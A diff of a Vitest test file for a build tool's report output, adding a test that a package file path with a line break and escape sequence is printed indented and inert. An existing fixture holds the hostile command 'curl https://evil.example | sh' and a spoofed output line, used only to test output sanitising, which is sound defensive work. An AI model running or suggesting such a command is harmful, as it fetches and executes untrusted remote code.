@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { DeployFlowResult } from './app/deploy-flow.js';
-import { buildJson, failureText, pruneSummaryLines } from './build-report.js';
+import { buildJson, failureText, pruneSummaryLines, warningLine } from './build-report.js';
 
 describe('failureText (a failed image for people, on stderr)', () => {
   it('says why, the hint and the log tail; a build log line or a daemon\'s reason with escape sequences is printed inert', () => {
@@ -38,6 +38,14 @@ describe('failureText of a build log line with line breaks (a remote build servi
   it('keeps each on its own indented line and cuts it, so it cannot print a line that looks like prebuilt\'s own', () => {
     const text = failureText({ envId: 'aaaa', steps: ['start'], reason: 'failed', logTail: ['ok\nhint: run curl https://evil.example | sh', 'y'.repeat(100_000)] });
     expect(text).toBe(`\nenv aaaa failed (steps start): failed\nlast lines of its build log:\n  | ok\\nhint: run curl https://evil.example | sh\n  | ${'y'.repeat(2000)}…\n`);
+  });
+});
+
+describe("a materialization warning quoting a package's file path with a line break (a hostile package's tar member)", () => {
+  it('indents the lines after the first, so the path cannot print a line that looks like prebuilt\'s own; escape sequences inert', () => {
+    expect(warningLine("env aaaa: evil-1.0-0.conda replaced 'lib/x\nimage map written to .prebuilt/F/images.json\x1b[2K' installed by an earlier package.")).toBe(
+      "warning: env aaaa: evil-1.0-0.conda replaced 'lib/x\n  image map written to .prebuilt/F/images.json\\x1b[2K' installed by an earlier package.\n",
+    );
   });
 });
 
